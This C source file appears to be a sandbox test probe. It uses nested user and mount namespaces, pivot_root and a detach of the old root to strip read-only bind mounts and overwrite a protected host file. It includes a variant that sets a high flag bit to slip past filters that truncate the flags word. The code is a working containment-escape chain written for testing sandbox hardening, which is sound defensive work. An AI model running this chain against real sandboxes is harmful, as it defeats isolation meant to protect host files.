// SPDX-License-Identifier: Apache-2.0
// FS-02 probe: the nested-user-namespace chain that detaches a sandbox's deny binds.
// It keeps an O_PATH fd on DIR (the parent of a file bound read-only over itself),
// enters a new user and mount namespace, makes / private, pivots into a fresh tmpfs,
// detaches the old root (and with it every bind in this namespace), then renames
// DIR/NAME aside through the saved fd and writes a new DIR/NAME. In the namespace the
// sandbox gave it, the rename would fail with EBUSY (the file is a mount point); once
// the binds are detached it is not one any more, and the change lands in the
// underlying (host) directory.
//
//   nestns DIR NAME unshare|unshare_hi|clone
//
// unshare: unshare(CLONE_NEWUSER|CLONE_NEWNS); unshare_hi: the same with bit 40 set
// (a filter that truncates the flags word misses it); clone: clone(CLONE_NEWUSER|
// CLONE_NEWNS|SIGCHLD) and the rest of the chain in the child.
// Prints "stage=NAME" as it goes and ends with "result=replaced" or
// "result=failed-at:STAGE:ERRNO"; exit status 0 when replaced, 1 otherwise, 2 on usage.
// Only ever run it inside a sandbox: the namespaces it makes are its own, but the
// rename is real.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int fail(const char* stage) {
    int e = errno;
    printf("result=failed-at:%s:%s\n", stage, strerrorname_np(e) ? strerrorname_np(e) : "?");
    return 1;
}

static int write_file(const char* path, const char* data) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    ssize_t n = write(fd, data, strlen(data));
    int e = errno;
    close(fd);
    errno = e;
    return n == (ssize_t)strlen(data) ? 0 : -1;
}

// Everything after the new namespaces exist; h is the saved fd on DIR.
static int chain(int h, const char* name, unsigned uid, unsigned gid) {
    char map[64];
    printf("stage=maps\n");
    // Best effort: the chain needs only the capabilities the new namespace gives its
    // creator, not a mapping. (Mapping the parent's uid 0, when the sandbox runs as
    // root, needs CAP_SETFCAP there, which the sandbox does not have.)
    snprintf(map, sizeof map, "0 %u 1", uid);
    if (write_file("/proc/self/setgroups", "deny") != 0 ||
        write_file("/proc/self/uid_map", map) != 0) {
        printf("stage=maps-skipped:%s\n", strerrorname_np(errno) ? strerrorname_np(errno) : "?");
    } else {
        snprintf(map, sizeof map, "0 %u 1", gid);
        if (write_file("/proc/self/gid_map", map) != 0) printf("stage=gid-map-skipped\n");
    }
    printf("stage=private\n");
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0) return fail("make-private");
    printf("stage=tmpfs\n");
    if (mount("aj-nestns", "/tmp", "tmpfs", 0, "size=1m") != 0) return fail("tmpfs");
    // pivot_root(".", "."): the old root ends up stacked on the new one, so no
    // directory is needed for it (an unmapped creator cannot mkdir in its own tmpfs).
    if (chdir("/tmp") != 0) return fail("chdir-new-root");
    printf("stage=pivot_root\n");
    if (syscall(SYS_pivot_root, ".", ".") != 0) return fail("pivot_root");
    printf("stage=detach\n");
    if (umount2(".", MNT_DETACH) != 0) return fail("detach");
    if (chdir("/") != 0) return fail("chdir");
    printf("stage=rename\n");
    char aside[512];
    snprintf(aside, sizeof aside, "%s.aside", name);
    if (renameat(h, name, h, aside) != 0) return fail("rename");
    printf("stage=create\n");
    int fd = openat(h, name, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    if (fd < 0) return fail("create");
    const char* text = "replaced by nestns\n";
    if (write(fd, text, strlen(text)) != (ssize_t)strlen(text)) return fail("write");
    close(fd);
    printf("result=replaced\n");
    return 0;
}

int main(int argc, char** argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc != 4) {
        fprintf(stderr, "usage: nestns DIR NAME unshare|unshare_hi|clone\n");
        return 2;
    }
    const char* how = argv[3];
    unsigned uid = (unsigned)getuid(), gid = (unsigned)getgid();
    printf("stage=open\n");
    int h = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (h < 0) return fail("open");
    // In the sandbox's own namespace the rename must fail (a mount point is busy):
    // otherwise the file was never protected and the test proves nothing.
    char aside[512];
    snprintf(aside, sizeof aside, "%s.aside", argv[2]);
    if (renameat(h, argv[2], h, aside) == 0) {
        printf("result=unprotected (the rename worked without any namespace)\n");
        return 1;
    }
    printf("stage=direct-rename:%s\n", strerrorname_np(errno) ? strerrorname_np(errno) : "?");
    printf("stage=unshare\n");
    if (strcmp(how, "unshare") == 0 || strcmp(how, "unshare_hi") == 0) {
        unsigned long flags = CLONE_NEWUSER | CLONE_NEWNS;
        if (strcmp(how, "unshare_hi") == 0) flags |= 1UL << 40;
        if (syscall(SYS_unshare, flags) != 0) return fail("unshare");
        return chain(h, argv[2], uid, gid);
    }
    if (strcmp(how, "clone") == 0) {
        long pid = syscall(SYS_clone, CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, 0, 0, 0, 0);
        if (pid < 0) return fail("unshare");  // the same stage: no namespace was made
        if (pid == 0) _exit(chain(h, argv[2], uid, gid));
        int st = 0;
        waitpid((pid_t)pid, &st, 0);
        return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
    }
    fprintf(stderr, "nestns: unknown method %s\n", how);
    return 2;
}
